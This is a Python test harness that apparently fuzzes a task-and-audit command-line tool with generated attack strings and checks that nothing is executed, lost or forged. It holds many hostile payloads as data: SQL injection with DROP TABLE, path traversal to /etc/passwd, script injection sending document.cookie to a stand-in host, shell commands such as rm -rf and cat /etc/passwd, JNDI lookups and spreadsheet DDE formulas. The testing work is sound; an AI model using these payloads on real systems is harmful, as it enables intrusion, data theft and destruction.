#!/usr/bin/env python3
"""Sends attack strings and honest text through every input of the command line.

    tools/check-attacks.py --runward target/release/runward [--backend postgres] [--quick]

The strings are built here from parts, by category: SQL, path traversal, cross-site scripting,
shell commands, templates, Unicode (bidi, zero width, confusables, lone forms, normalisation),
formulas, log injection (line breaks, forged records, terminal escapes), format strings, and sizes
at the limits. What must hold:

- nothing is executed: canary files, tables and rows are as they were;
- nothing is lost: every string is stored as it was sent, or refused, and a refusal is recorded;
- nothing is forged: audit.json has exactly the records that were written, each line is one JSON
  object with its index, audit.log has as many lines; no export has a line, a cell or a formula that
  an attacker chose; no terminal escape reaches an output;
- nobody comes in: a text in place of a token, an id or a role gives no right;
- honest text comes back byte for byte (in Unicode's composed form, NFC).

Inputs that take many texts at once (tasks and events as JSON lines, imports) get all of them; the
others get all of them too, one process each, or `--sample` of them. `--quick` (for CI): a sample of
every category for each input. Exit code 0: all of it holds.
"""

import argparse
import collections
import concurrent.futures
import contextlib
import csv
import glob
import io
import itertools
import json
import os
import pathlib
import random
import shutil
import sqlite3
import subprocess
import sys
import tempfile
import time
import unicodedata

CANARY = "runward_canary"


def sql():
    ends = ["", " --", " #", ";--", "/*", "\x00"]
    heads = ["'", '"', "')", '")', "`", "';", "\\'", "1", "%27", "'''"]
    bodies = [
        "OR 1=1",
        "OR 'a'='a",
        f"; DROP TABLE {CANARY}",
        "; DROP TABLE findings",
        f"; INSERT INTO {CANARY} VALUES (1)",
        "UNION SELECT 1,2,3",
        "UNION SELECT name FROM sqlite_master",
        "AND (SELECT pg_sleep(9))",
        "; ATTACH DATABASE '{dir}/owned' AS o",
        "; COPY (SELECT 1) TO '{dir}/owned'",
        "; PRAGMA writable_schema=1",
        "NEAR/1 OR *",
    ]
    return (f"{h} {b}{e}" for h, b, e in itertools.product(heads, bodies, ends))


def traversal():
    ups = ["../", "..\\", "%2e%2e/", "..%2f", "....//", "..;/", "%c0%ae%c0%ae/", "..%00/", "．．/"]
    files = ["etc/passwd", "owned", "windows/win.ini", ".git/config", "proc/self/environ", "audit/audit.json"]
    depths = [1, 3, 8]
    heads = ["", "/", "file:///", "C:\\", "./", "\\\\host\\share\\"]
    for up, file, depth, head in itertools.product(ups, files, depths, heads):
        yield head + up * depth + file


def scripts():
    payloads = ["alert(1)", "fetch('//x/'+document.cookie)", "location='//x'"]
    shapes = [
        "<script>{}</script>",
        "<img src=x onerror={}>",
        '"><svg onload={}>',
        "javascript:{}",
        "[x](javascript:{})",
        "<a href='java\tscript:{}'>x</a>",
        "</title><script>{}</script>",
        "<!--<img src='--><img src=x onerror={}//'>",
        "{{constructor.constructor('{}')()}}",
        "<iframe srcdoc='<script>{}</script>'>",
        "<style>@import'{}'</style>",
        "data:text/html,<script>{}</script>",
        "<math><mtext></form><form><mglyph><style></math><img src onerror={}>",
    ]
    wraps = ["{}", "a{}b", "<b>{}</b>", "'{}'", "\"{}\""]
    for payload, shape, wrap in itertools.product(payloads, shapes, wraps):
        yield wrap.replace("{}", shape.replace("{}", payload))


def commands():
    actions = ["touch {dir}/owned", "cat /etc/passwd", "rm -rf {dir}/canary", "curl http://127.0.0.1:9/"]
    shapes = ["; {}", "| {}", "& {}", "&& {}", "|| {}", "`{}`", "$({})", "\n{}\n", "%0a{}", "{}\x00", "'; {}; '",
              '"; {}; "', "<({})", "${{IFS}}{}", "--config=$({})", "-exec {} ;", "\\$({})", "!{}"]
    for action, shape in itertools.product(actions, shapes):
        yield shape.replace("{}", action)
    for shape in ["{{7*7}}", "${7*7}", "#{7*7}", "<%= 7*7 %>", "${jndi:ldap://127.0.0.1/a}", "{{config}}",
                  "{% import os %}", "__proto__", "constructor", "%s%s%s%n", "%x" * 20, "{0.__class__}"]:
        yield shape


def unicode_tricks():
    parts = {
        "bidi": "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069\u200e\u200f\u061c",
        "zero width": "\u200b\u200c\u200d\u2060\ufeff\u00ad\u034f\u180e",
        "control": "".join(map(chr, [*range(0, 32), 127, *range(128, 160)])),
        "separators": "\u2028\u2029\u0085\u00a0\u3000\u2000",
        "tags": "\U000e0041\U000e0042\U000e007f",
        "variation": "\ufe0e\ufe0f\U000e0100",
        "confusable": "аеорсух．／＜＞＇＂；＝",
        "invalid": "\ufffd\ufffe\uffff\U0010ffff",
    }
    words = ["admin", "fix login", "../x", "ok"]
    for characters, word in itertools.product(parts.values(), words):
        for character in characters:
            middle = len(word) // 2
            yield word[:middle] + character + word[middle:]
        yield word + characters
    yield "e" + "\u0301" * 60
    yield "ﷺ" * 40
    yield "İıſK" * 10
    yield "\u1100\u1161\u11a8" * 20


def formulas():
    heads = ["=", "+", "-", "@", "\t=", "\r=", " =", "＝", "'=", "\"=", ";=", ",="]
    bodies = ["1+1", "cmd|' /C calc'!A0", 'HYPERLINK("http://x","y")', "SUM(A1:A9)", "IMPORTXML(A1)",
              "DDE(\"cmd\";\"/C calc\")", "WEBSERVICE(\"http://x\")"]
    return (h + b for h, b in itertools.product(heads, bodies))


def log_forgeries():
    breaks = ["\n", "\r\n", "\r", "\u2028", "\u0085", "\x0b", "\x0c", "\\n", "%0a", "\n\n"]
    lines = [
        '{"index": 0, "event_type": "login_succeeded"}',
        '{"v":1,"store":"000000000000","seq":1,"event":{}}',
        "2026-01-01 INFO all is well",
        "CEF:0|x|y|1|2|3|9|act=x",
        "— runward.example/log AAAA",
        "]}",
        "\x1b[2J\x1b[1;1Hcleared",
        "\x1b]0;title\x07",
        "\x1b]8;;http://x\x07link\x1b]8;;\x07",
        "\b\b\b\b\b\b",
    ]
    for line_break, line in itertools.product(breaks, lines):
        yield "text" + line_break + line
    for field in ["|act=x", "=x|y\\", 'a"b', "a\\", "a,b", "a;b", "a\tb", "key=value other=value"]:
        yield field


CATEGORIES = {
    "sql": sql,
    "traversal": traversal,
    "scripts": scripts,
    "commands": commands,
    "unicode": unicode_tricks,
    "formula": formulas,
    "log": log_forgeries,
}


def attacks(count, directory, rng):
    """At least `count` different strings, of every category."""
    found = {}
    for category, make in CATEGORIES.items():
        for text in make():
            found.setdefault(text.replace("{dir}", str(directory)), category)
    texts = list(found.items())
    base = [text for text, _ in texts]
    # Strings of one category inside those of another.
    while len(texts) < count:
        one, other = rng.sample(base, 2)
        text = one + rng.choice(["", " ", "'", "\n", "/", "="]) + other
        if text not in found:
            found[text] = "mixed"
            texts.append((text, "mixed"))
    return texts


def honest(rng):
    """Text that people write, which looks dangerous at a glance."""
    fixed = [
        "fix --force flag",
        "fix SQL: SELECT ... FROM users WHERE name = 'O''Brien'",
        "don't drop table joins in report.py",
        "upgrade lodash >= 4.17.21 && rebuild",
        "C++ / C# interop; see ../README.md",
        "<title> is missing on /login",
        "use `rm -rf build/` in the Makefile",
        "price = 3 * (a + b) - 1",
        "-1 is returned where 0 is meant",
        "@octocat asks: why 100% CPU?",
        "naïve café, Straße, Ærøskøbing, İstanbul",
        "日本語のタスク",
        "עברית ועוד",
        "العربية",
        "हिन्दी में काम",
        "emoji 👩‍👩‍👧 and 🏳️‍🌈 stay whole",
        "tabs\tinside and 'quotes' \"here\"",
        "=> arrow function, -> pointer, <- channel",
        "50% | 60% & more; done",
        "{{ mustache }} in a template",
        "$HOME is not set; %PATH% either",
        "path C:\\Users\\me\\x",
        "email a.b+c@example.com",
        "see https://example.com/a?b=c&d=e#f",
        "null, undefined, NaN, true",
    ]
    verbs = ["fix", "review", "upgrade", "remove", "explain", "don't break", "re-check", "O'Brien's"]
    things = ["login --verbose", "<input> escaping", "50% of `eval()` calls", "the \"admin\" role", "ü-umlaut in paths",
              "CVE-2021-44228 (log4j)", "README.md & CHANGELOG", "a = b; c = d", "x | y", "../shared path", "#123: crash"]
    where = ["", " in src/app.py", " before 2026-12-31", " (see #12)", " — urgent!"]
    texts = fixed + [f"{v} {t}{w}" for v, t, w in itertools.product(verbs, things, where)]
    rng.shuffle(texts)
    return texts


class Failure(Exception):
    pass


def require(condition, message):
    if not condition:
        raise Failure(message)


class Sqlite:
    """The database, looked at without the program."""

    def __init__(self, directory):
        self.file = directory / "runward.db"
        self.url = f"sqlite:{self.file}"

    def execute(self, statement):
        with contextlib.closing(sqlite3.connect(self.file)) as connection, connection:
            return [list(map(str, row)) for row in connection.execute(statement)]

    def schema(self):
        return self.execute("SELECT type, name, sql FROM sqlite_master ORDER BY 1, 2")

    def stop(self):
        pass


class Postgres:
    def __init__(self, directory):
        self.tool = [pathlib.Path(__file__).resolve().parent / "postgres"]
        self.directory = directory / "server"
        directory.chmod(0o755)
        done = subprocess.run([*self.tool, "start", self.directory], capture_output=True, text=True)
        require(done.returncode == 0, done.stderr)
        self.url = done.stdout.strip()
        found = sorted(glob.glob("/usr/lib/postgresql/*/bin/psql")) or [shutil.which("psql")]
        self.psql = found[-1]

    def execute(self, statement):
        command = [self.psql, "-X", "-q", "-A", "-t", "-v", "ON_ERROR_STOP=1", "-d", self.url, "-c", statement]
        done = subprocess.run(command, capture_output=True, text=True)
        require(done.returncode == 0, done.stderr)
        return [line.split("|") for line in done.stdout.splitlines()]

    def schema(self):
        return self.execute(
            "SELECT table_schema, table_name, column_name, data_type FROM information_schema.columns "
            "WHERE table_schema NOT IN ('pg_catalog', 'information_schema') ORDER BY 1, 2, 3"
        ) + self.execute("SELECT rolname FROM pg_roles ORDER BY 1")

    def stop(self):
        subprocess.run([*self.tool, "stop", self.directory], check=False)


class Program:
    def __init__(self, binary, directory, database):
        self.binary = binary
        self.directory = directory
        self.database = database
        self.feeds = directory / "feeds"
        (directory / "project").mkdir()
        self.environment = {
            "PATH": os.environ["PATH"],
            "HOME": str(directory),
            "XDG_DATA_HOME": str(directory / "data"),
            "XDG_CONFIG_HOME": str(directory / "config"),
            "RUNWARD_STORE": database.url,
            "RUNWARD_AUDIT__DIR": str(directory / "audit"),
            "RUNWARD_AUDIT__FILES_DIR": str(self.feeds),
        }
        self.run("store", "migrate")

    def run(self, *words, codes=(0,), given=b"", variables=None):
        done = subprocess.run(
            [self.binary, *words],
            capture_output=True,
            env=self.environment | (variables or {}),
            cwd=self.directory / "project",
            input=given,
            timeout=600,
        )
        noise = done.stderr.decode(errors="replace")
        require(done.returncode in codes, f"{words}: exit code {done.returncode}\n{noise}")
        require("panicked" not in noise, f"{words}: {noise}")
        return done

    def lines(self, *words, codes=(0,), given=b""):
        done = self.run(*words, codes=codes, given=given)
        return [json.loads(line) for line in done.stdout.splitlines()]

    def records(self, start=0):
        """The records of audit.json from `start` on; both files are as they say."""
        data = (self.feeds / "audit.json").read_bytes()
        require(data.endswith(b"\n"), "audit.json does not end with a line break")
        lines = data.split(b"\n")[:-1]
        plain = (self.feeds / "audit.log").read_bytes()
        require(plain.count(b"\n") == len(lines), "audit.log has not as many lines as audit.json")
        for name, content in (("audit.json", data), ("audit.log", plain)):
            bad = set(content) & (set(range(32)) - {10} | {127})
            require(not bad, f"{name} has control characters: {bad}")
        for number, line in enumerate(plain.split(b"\n")[start:-1], start):
            require(json.loads(line)["index"] == number, f"line {number + 1} of audit.log is not its own")
        records = []
        for number, line in enumerate(lines[start:], start):
            record = json.loads(line)
            require(record["index"] == number, f"line {number + 1} of audit.json has index {record['index']}")
            records.append(record)
        return records

    def size(self):
        return len((self.feeds / "audit.json").read_bytes().split(b"\n")) - 1

    def tasks(self):
        found, after = {}, []
        while True:
            words = ["task", "list", "--all", "--limit", "500", "--sort", "newest", "--format", "json"]
            page = json.loads(self.run(*words, *after).stdout)
            found |= {f"T-{listed['task']['id']}": listed["task"] for listed in page["tasks"]}
            if not page["next"]:
                return found
            after = ["--after", page["next"]]


def same(text, back):
    return unicodedata.normalize("NFC", text.replace("\r\n", "\n")) == back


# Tasks as JSON lines: how a text goes into a field, and where it stands afterwards. The last says
# whether the field takes any text; the others are names with rules of their own.
NAMES = ["owner", "assignee", "gates", "findings", "deadline", "priority", "severity", "approver"]
TASK_FIELDS = {
    "title": (lambda text: text, lambda task: task["title"], True),
    "description": (lambda text: text, lambda task: task["description"], True),
    "tags": (lambda text: [text], lambda task: task["tags"][0], False),
    "metadata": (lambda text: {"note": {"deep": [text]}}, lambda task: task["metadata"]["note"]["deep"][0], True),
    "metadata key": (lambda text: {text: 1}, lambda task: next(iter(task["metadata"])), False),
    "project": (lambda text: text, lambda task: task["project"], True),
    "repository": (lambda text: text, lambda task: task["repository"], False),
    # All of them at once: each must be named in the refusal.
    "names": (lambda text: {name: [text] if name in ("gates", "findings") else text for name in NAMES}, None, False),
    "unknown field": (lambda text: text, None, False),
}


def tasks_as_lines(program, texts, benign, counts):
    for name, (put, get, free) in TASK_FIELDS.items():
        start = program.size()
        key = {"metadata key": "metadata"}.get(name, name)
        inputs = []
        for number, text in enumerate(texts):
            fields = {"title": f"task {number}", "repository": "r"}
            if name == "names":
                fields |= put(text)
            else:
                fields[text if name == "unknown field" else key] = put(text)
            inputs.append(json.dumps(fields))
        given = ("\n".join(inputs) + "\n").encode()
        answers = program.lines("task", "create", "--json", "-", "--format", "json", codes=(0, 2), given=given)
        require([answer["line"] for answer in answers] == list(range(1, len(texts) + 1)), f"{name}: answers are missing")
        listed, accepted = program.tasks(), 0
        for text, answer in zip(texts, answers, strict=True):
            if "id" not in answer:
                require(answer.get("error"), f"{name}: {text!r} is neither stored nor refused: {answer}")
                if name == "names":
                    # A person or a gate may be called so; nothing else may.
                    missing = [each for each in NAMES[3:] if f"`{each}" not in answer["error"]]
                    require(not missing, f"{text!r} is accepted as {missing}: {answer['error']}")
                wrong = text in benign and free and "\t" not in text
                require(not wrong, f"{name}: honest text is refused: {text!r}: {answer['error']}")
                continue
            accepted += 1
            require(answer["id"] in listed, f"{name}: the task of {text!r} is lost")
            require(get is not None, f"{text!r} is accepted as {name}")
            back = get(listed[answer["id"]])
            require(same(text, back), f"{name}: {text!r} came back as {back!r}")
        kinds = collections.Counter(
            (record["event_type"], record["result"]) for record in program.records(start)
        )
        require(
            kinds["task_created", "success"] == accepted,
            f"{name}: {accepted} tasks made {kinds['task_created', 'success']} events",
        )
        require(
            kinds["task_validation_failure", "failure"] == len(texts) - accepted,
            f"{name}: {len(texts) - accepted} refusals made {kinds['task_validation_failure', 'failure']} events",
        )
        strange = set(kind for kind, _ in kinds) - {"task_created", "task_validation_failure"}
        require(not strange, f"{name}: events that nobody caused: {strange}")
        counts[f"task create --json: {name}"] = (accepted, len(texts) - accepted)


EVENT_FIELDS = {
    "details": (lambda text: {"details": {"note": text}}, lambda event: event["details"]["note"]),
    "details key": (lambda text: {"details": {text: 1}}, lambda event: next(key for key in event["details"] if key != "reported")),
    "deep details": (lambda text: {"details": {"a": {"b": [text]}}}, lambda event: event["details"]["a"]["b"][0]),
    "reason": (lambda text: {"reason": text}, lambda event: event["reason"]),
    "subject id": (lambda text: {"subject": {"kind": "other", "id": text}}, lambda event: event["subject"]["id"]),
    "subject kind": (lambda text: {"subject": {"kind": text, "id": "x"}}, lambda event: event["subject"]["kind"]),
    "project": (lambda text: {"project": text}, lambda event: event["project"]),
    "repository": (lambda text: {"repository": text}, lambda event: event["repository"]),
    "correlation": (lambda text: {"correlation": text}, lambda event: event["correlation"]),
    "changes": (
        lambda text: {"changes": {"field": {"old": None, "new": text}}},
        lambda event: event["changes"]["field"]["new"],
    ),
    "event type": (lambda text: {"event_type": text}, None),
    "actor": (lambda text: {"actor": {"kind": "account", "id": text}}, None),
    "unknown field": (lambda text: {text: 1}, None),
}


def events_as_lines(program, texts, benign, counts):
    for name, (put, get) in EVENT_FIELDS.items():
        start = program.size()
        inputs = [{"event_type": "custom", "subject": {"kind": "other", "id": "x"}} | put(text) for text in texts]
        given = "".join(json.dumps(each) + "\n" for each in inputs).encode()
        answers = program.lines("audit", "record", codes=(0, 2), given=given)
        by_line = {answer["line"]: answer for answer in answers}
        require(sorted(by_line) == list(range(1, len(texts) + 1)), f"{name}: answers are missing")
        require(len(answers) == len(texts), f"{name}: {len(answers)} answers to {len(texts)} events")
        new = {record["index"]: record for record in program.records(start)}
        accepted = redacted = 0
        for line, text in enumerate(texts, 1):
            answer = by_line[line]
            if "ack" not in answer:
                require(answer.get("error"), f"{name}: {text!r}: {answer}")
                require(text not in benign or name in ("event type", "actor", "unknown field", "subject kind"),
                        f"{name}: honest text is refused: {text!r}: {answer}")
                continue
            accepted += 1
            record = new.pop(answer["index"], None)
            require(record and record["id"] == answer["ack"], f"{name}: the event of {text!r} is not in audit.json")
            event = record["entry"]["event"]
            if get is None:
                require(event["event_type"] == "custom" and event["actor"]["id"] != text, f"{name}: {text!r} is taken")
                continue
            back = get(event)
            if back == text:
                continue
            redacted += 1
            require(text not in benign, f"{name}: {text!r} came back as {back!r}")
        require(not new, f"{name}: records that nobody sent: {list(new.values())[:1]}")
        counts[f"audit record: {name}"] = (accepted, len(texts) - accepted, redacted)


def imports(program, texts, benign, counts):
    """Findings of another tool, as JSON lines."""
    fields = {"title": "title", "rule": "rule", "path": "path", "snippet": "snippet", "tool": "tool", "severity": "severity"}
    for name in fields:
        lines = []
        for number, text in enumerate(texts):
            finding = {"rule": f"r{number}", "title": f"t{number}", "severity": "low", "path": f"f{number}.py", "line": 1}
            lines.append(json.dumps(finding | {name: text}))
        (program.directory / "found.jsonl").write_text("\n".join(lines) + "\n")
        project = f"{name}-import"
        words = ["--set", f"project.name={project}", "findings", "import", "--format", "jsonl"]
        done = program.run(*words, str(program.directory / "found.jsonl"), codes=(0, 1, 2, 4))
        counts[f"findings import: {name}"] = done.stderr.decode(errors="replace").strip().splitlines()[-1:]
        shown = program.run("findings", "list", "--all", "--project", project, codes=(0, 1, 2, 3))
        clean(f"findings list after import of {name}", shown)


def clean(name, done):
    """Nothing of an output may drive a terminal, or begin a line of its own."""
    for output in (done.stdout, done.stderr):
        text = output.decode(errors="replace")
        bad = [character for character in text if unicodedata.category(character) == "Cc" and character not in "\n\t"]
        bad += [character for character in text if character in "\u202a\u202b\u202d\u202e\u2066\u2067\u2068"]
        require(not bad, f"{name}: {set(bad)} reaches the terminal: {text[:300]!r}")


# Inputs that take one text in a process. `{}` is the text.
READS = {
    "task search": ["task", "search", "--", "{}"],
    "task list": ["task", "list", "--tag={}"],
    "task list by names": ["task", "list", "--owner={}", "--repository={}", "--assignee={}"],
    "task list --after": ["task", "list", "--after={}"],
    "task list --sort": ["task", "list", "--sort={}", "--due-before={}"],
    "task show": ["task", "show", "--", "{}"],
    "audit search": ["audit", "search", "--", "{}"],
    "audit search by names": ["audit", "search", "--user={}", "--subject={}", "--project={}", "--repository={}",
                              "--correlation={}"],
    "audit search --token": ["audit", "search", "--token={}"],
    "audit search --address": ["audit", "search", "--address={}"],
    "audit search --after": ["audit", "search", "--after={}"],
    "audit search --since": ["audit", "search", "--since={}"],
    "audit timeline": ["audit", "timeline", "--", "{}"],
    "audit show": ["audit", "show", "--", "{}"],
    "audit confirm": ["audit", "confirm", "--json=1", "--", "1", "{}"],
    "findings list": ["findings", "list", "--text={}", "--package={}", "--path={}", "--project={}", "--reporter={}",
                      "--rule={}"],
    "findings list --after": ["findings", "list", "--after={}"],
    "findings show": ["findings", "show", "--", "{}"],
    "explain": ["explain", "--", "{}"],
}

WRITES = {
    "task create": ["task", "create", "--repository=r", "--description={}", "--", "{}"],
    "task update": ["task", "update", "T-1", "--title={}"],
    "task assign": ["task", "assign", "--", "T-1", "{}"],
    "task comment": ["task", "comment", "--", "T-1", "{}"],
    "task block": ["task", "block", "--reason={}", "--", "T-2"],
    "task gate": ["task", "gate", "add", "--", "T-1", "{}"],
    "findings triage": ["findings", "triage", "--status=triaged", "--reason={}", "--", "{}"],
    "findings accept": ["findings", "accept", "--reason={}", "--until={}", "--", "{}"],
    "project.name": ["--set=project.name={}", "findings", "list"],
    "project.repository": ["--set=project.repository={}", "task", "create", "--", "t"],
}

ACCESS = {
    "access add": ["access", "add", "--name={}", "--email={}", "--", "{}"],
    "access add --name": ["access", "add", "--name={}", "--", "ann"],
    "access grant": ["access", "grant", "--", "{}", "{}"],
    "access join": ["access", "join", "--role=viewer", "--", "boss", "{}"],
    "access token": ["access", "token", "create", "--scope=read", "--", "{}"],
    "access token --scope": ["access", "token", "create", "--scope={}", "--", "t"],
    "access explain": ["access", "explain", "--", "{}", "view_task", "repository:r"],
    "access explain resource": ["access", "explain", "--", "boss", "view_task", "{}"],
    "access explain action": ["access", "explain", "--", "boss", "{}", "repository:r"],
}


VIOLATIONS = []


def one_by_one(program, inputs, texts, counts, variables=None):
    texts = [text for text in texts if "\0" not in text]  # No argument of a program can hold it.

    def each(name, words, text):
        filled = [word.replace("{}", text) for word in words]
        try:
            done = program.run(*filled, codes=(0, 1, 2, 3, 4, 6), variables=variables)
            clean(f"{name}: {text!r}", done)
        except Failure as failure:
            # The other texts may show more.
            VIOLATIONS.append(f"{name}: {failure}")
            return "violation"
        return done.returncode

    with concurrent.futures.ThreadPoolExecutor(2) as pool:
        for name, words in inputs.items():
            started = time.monotonic()
            codes = collections.Counter(pool.map(lambda text: each(name, words, text), texts))
            counts[name] = {f"exit code {code}": number for code, number in sorted(codes.items(), key=str)}
            print(f"{name}: {counts[name]}, {time.monotonic() - started:.0f} s", flush=True)


def honest_one_by_one(program, texts, counts):
    """Honest text through the command line comes back byte for byte."""
    back = 0
    for text in texts:
        words = ["task", "create", "--repository=r", f"--description={text}", "--format=json", "--"]
        made = json.loads(program.run(*words, text.replace("\t", " ")).stdout)["task"]
        require(same(text, made["description"]), f"description: {text!r} came back as {made['description']!r}")
        program.run("task", "comment", "--", f"T-{made['id']}", text)
        shown = json.loads(program.run("task", "show", "--format=json", f"T-{made['id']}").stdout)
        require(same(text, shown["comments"][0]["body"]), f"comment: {text!r} came back as {shown['comments']}")
        require(same(text, shown["task"]["description"]), f"task show: {text!r} came back changed")
        back += 1
    counts["honest text by arguments"] = back


def without_rights(program, texts, counts):
    """Nothing that is sent in place of a token lets anybody in."""
    codes = collections.Counter()
    before = program.size()
    sent = 0
    for text in texts:
        if "\0" in text:
            continue
        done = program.run("task", "list", codes=(2, 6), variables={"RUNWARD_TOKEN": text})
        require(not done.stdout, f"the token {text!r} lets somebody in")
        clean(f"token {text!r}", done)
        codes[done.returncode] += 1
        sent += 1
    refused = [record for record in program.records(before) if record["event_type"] == "login_failed"]
    counts["token"] = dict(codes)
    require(len(refused) <= sent, f"{len(refused)} refusals were recorded of {sent}")


def check_exports(program):
    """CSV cells begin with nothing that a spreadsheet runs; CEF and OCSF have one record a line."""
    for kind in ["csv", "cef", "ocsf", "json", "jsonl"]:
        number = program.size()
        output = program.run("audit", "export", "--format", kind).stdout.decode()
        if kind == "csv":
            rows = list(csv.reader(io.StringIO(output, newline=""), strict=True))
            for row in rows:
                require(len(row) == len(rows[0]), f"a row of the CSV export has {len(row)} cells")
                for cell in row:
                    dangerous = cell.startswith(("=", "+", "-", "@", "\t", "\r", "＝", "＋", "－", "＠"))
                    require(not dangerous, f"a formula in the CSV export: {cell!r}")
            found = len(rows) - 1
        elif kind == "json":
            found = len(json.loads(output))
        else:
            lines = output.split("\n")[:-1]
            for line in lines:
                if kind == "cef":
                    require(line.startswith("CEF:0|Runward|"), f"a forged line in the CEF export: {line[:80]!r}")
                    bad = [character for character in line if unicodedata.category(character) in ("Cc", "Zl", "Zp")]
                    require(not bad, f"{bad} in the CEF export: {line[:200]!r}")
                else:
                    json.loads(line)
            found = len(lines)
        require(found == number, f"the {kind} export has {found} records, the log {number}")


def plant(program):
    """Canaries: a directory with a file, a table with a row."""
    (program.directory / "canary").mkdir()
    (program.directory / "canary" / "file").write_text("alive")
    program.database.execute(f"CREATE TABLE {CANARY} (n INTEGER)")
    program.database.execute(f"INSERT INTO {CANARY} VALUES (42)")


def check_canaries(program, schema):
    require((program.directory / "canary" / "file").read_text() == "alive", "the canary file changed")
    for place in (program.directory, pathlib.Path("/tmp/owned"), pathlib.Path("/owned")):
        found = list(place.rglob("owned*")) if place == program.directory else [place] * place.exists()
        require(not found, f"a command or statement was executed: {found}")
    rows = program.database.execute(f"SELECT n FROM {CANARY}")
    require(rows == [["42"]], f"the canary table changed: {rows}")
    require(program.database.schema() == schema, "the schema changed")


def check(program, hostile, benign, arguments, rng, counts):
    plant(program)
    schema = program.database.schema()
    texts = rng.sample(hostile, min(arguments.count, len(hostile))) + rng.sample(benign, min(350, len(benign)))
    rng.shuffle(texts)
    single = rng.sample(texts, min(arguments.sample or len(texts), len(texts)))
    if arguments.quick:
        texts = rng.sample(hostile, 250) + rng.sample(benign, 50)
        single = rng.sample(texts, 6)
    started = time.monotonic()
    for step in (tasks_as_lines, events_as_lines, imports):
        step(program, texts, set(benign), counts)
        print(f"{step.__name__}: {len(texts)} texts for each field, {time.monotonic() - started:.0f} s", flush=True)
    check_canaries(program, schema)
    check_exports(program)
    honest_one_by_one(program, benign[: 10 if arguments.quick else 300], counts)
    one_by_one(program, READS | WRITES, single, counts)
    # From here on, a token is asked for.
    token = program.run("access", "init", "boss").stdout.decode().strip()
    one_by_one(program, ACCESS, single, counts, {"RUNWARD_TOKEN": token})
    admin = {"RUNWARD_TOKEN": token}
    # Exports are for auditors.
    program.run("access", "grant", "boss", "auditor", variables=admin)
    people = program.run("access", "list", "--format=json", variables=admin).stdout.decode()
    require(people.count('"admin"') == 1, f"there is another admin: {people}")
    without_rights(program, single, counts)
    program.environment |= admin
    check_exports(program)
    program.records()
    program.run("audit", "verify")
    program.run("store", "check")
    check_canaries(program, schema)


def main():
    parser = argparse.ArgumentParser(description=__doc__.split("\n\n")[0])
    parser.add_argument("--runward", required=True)
    parser.add_argument("--backend", choices=["sqlite", "postgres"], default="sqlite")
    parser.add_argument("--seed", type=int, default=1)
    parser.add_argument("--count", type=int, default=2200, help="attacks for each input")
    parser.add_argument("--sample", type=int, default=0, help="texts for inputs that take one at a time; 0: all")
    parser.add_argument("--quick", action="store_true", help="a sample for each input, for CI")
    parser.add_argument("--keep", help="work in this directory and leave it")
    arguments = parser.parse_args()
    rng = random.Random(arguments.seed)
    directory = pathlib.Path(arguments.keep or tempfile.mkdtemp(prefix="runward-attacks-")).resolve()
    directory.mkdir(parents=True, exist_ok=True)
    hostile = attacks(arguments.count, directory, rng)
    benign = honest(rng)
    require(len(hostile) >= 2000 and len(benign) >= 300, f"{len(hostile)} attacks, {len(benign)} honest texts")
    by_category = collections.Counter(category for _, category in hostile)
    print(f"{len(hostile)} attacks {dict(by_category)}, {len(benign)} honest texts", flush=True)
    started = time.monotonic()
    counts = {}
    database = None
    try:
        database = (Postgres if arguments.backend == "postgres" else Sqlite)(directory)
        program = Program(str(pathlib.Path(arguments.runward).resolve()), directory, database)
        check(program, [text for text, _ in hostile], benign, arguments, rng, counts)
    except Failure as failure:
        print(f"failed: {failure}\nthe files are in {directory}", file=sys.stderr)
        return 1
    finally:
        if database:
            database.stop()
    for name, count in counts.items():
        print(f"{name}: {count}")
    if VIOLATIONS:
        for violation in VIOLATIONS[:20]:
            print(violation, file=sys.stderr)
        print(f"failed: {len(VIOLATIONS)} violations; the files are in {directory}", file=sys.stderr)
        return 1
    print(
        f"ok: {len(counts)} inputs, {program.size()} records: nothing executed, nothing lost, nothing forged; "
        f"{time.monotonic() - started:.0f} s"
    )
    if not arguments.keep:
        shutil.rmtree(directory)
    return 0


if __name__ == "__main__":
    sys.exit(main())
